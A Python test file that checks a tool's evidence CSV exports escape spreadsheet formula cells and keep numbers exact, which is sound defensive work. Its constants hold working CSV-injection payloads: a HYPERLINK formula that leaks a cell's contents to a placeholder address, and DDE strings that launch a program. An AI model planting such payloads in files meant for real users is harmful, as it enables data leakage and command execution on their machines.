"""CSV injection (issue 13 item 8): the evidence CSVs neutralise formula cells and keep numbers exact.

A vendor's annotator id ``=HYPERLINK(...)``, file name and texts reach the evidence tables (flagged
annotator rows, example rows, screening, provenance). Every CSV file ``report --evidence`` writes is read
back raw: no cell a spreadsheet would evaluate, and every number equals the JSON report's value.
(The app's downloads use the same writer; tests/test_browser_hostile.py downloads them in Chromium,
with a model name ``=cmd|...`` in the model-pair table.)
"""

from __future__ import annotations

import contextlib
import csv
import io
import json

import pytest
from gates_helpers import batch_rows, ingest_batch

from qualitylab.cli import main
from qualitylab.escape import FORMULA_PREFIXES

EVIL_ANNOTATOR = '=HYPERLINK("http://127.0.0.1:9/x?leak="&A1,"click")'
EVIL_MODEL = "=cmd|' /C calc'!A0"
EVIL_CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def evidence(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("csvinj")
    db = tmp / "store.duckdb"
    rows = batch_rows("x", n_comparisons=100, seed=5, annotators=("h1", "h2", "h3", EVIL_ANNOTATOR))
    rows = [dict(r, model_a=EVIL_MODEL, model_b="+m2", category=EVIL_CATEGORY, prompt="-1+1") for r in rows] + [
        dict(rows[0], model_a=EVIL_MODEL, model_b="+m2", category=EVIL_CATEGORY, prompt="-1+1")
    ]
    # the evil annotator always clicks first: flagged, so its rows are example rows
    for r in rows:
        if r["annotator_id"] == EVIL_ANNOTATOR:
            r["preference"] = r["shown_first"]
    ingest_batch(tmp, db, "w1", rows, file_name="=evil.jsonl")
    out = tmp / "csv"
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        rc = main(["report", "--batch", "w1", "--db", str(db), "--evidence", str(out), "--n-boot", "100", "--json"])
    assert rc == 0
    return out, json.loads(buf.getvalue())


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_no_evidence_cell_starts_a_formula(evidence):
    seen = 0
    for p in sorted(evidence[0].glob("*.csv")):
        for row in _cells(p):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES):
                    float(cell)  # only a plain number may start with + or -
                if "HYPERLINK" in cell or "cmd|" in cell:
                    assert cell.startswith("'") or not cell.startswith(FORMULA_PREFIXES), (p.name, cell)
                    seen += 1
    assert seen >= 10  # the hostile values really are in the tables


def test_hostile_values_come_back_behind_one_quote(evidence):
    with open(evidence[0] / "annotator_examples.csv", newline="", encoding="utf-8") as f:
        ex = list(csv.DictReader(f))
    assert ex and {r["annotator_id"] for r in ex} == {"'" + EVIL_ANNOTATOR}
    assert {r["file_name"] for r in ex} == {"'=evil.jsonl"}
    assert {r["prompt"] for r in ex} == {"'-1+1"}  # not a plain number: a formula to a spreadsheet


def test_numbers_are_numeric_at_full_precision(evidence):
    out, doc = evidence
    with open(out / "position_bias_by_annotator.csv", newline="", encoding="utf-8") as f:
        rows = {r["annotator_id"]: r for r in csv.DictReader(f)}
    assert float(rows["'" + EVIL_ANNOTATOR]["p_first"]) == 1.0
    by_id = {r["annotator_id"]: r for r in doc["position_bias"]["by_annotator"]}
    n_checked = 0
    for a, want in by_id.items():
        got = rows["'" + a if a == EVIL_ANNOTATOR else a]
        for k in ("p_first", "p_value", "q_value"):
            v = want[k]["value"] if isinstance(want[k], dict) else want[k]
            if v is not None:
                assert float(got[k]) == v and got[k] == repr(float(v))  # exact, shortest round-trip text
                n_checked += 1
        assert got["n"] == str(want["n"])
    assert n_checked >= 8
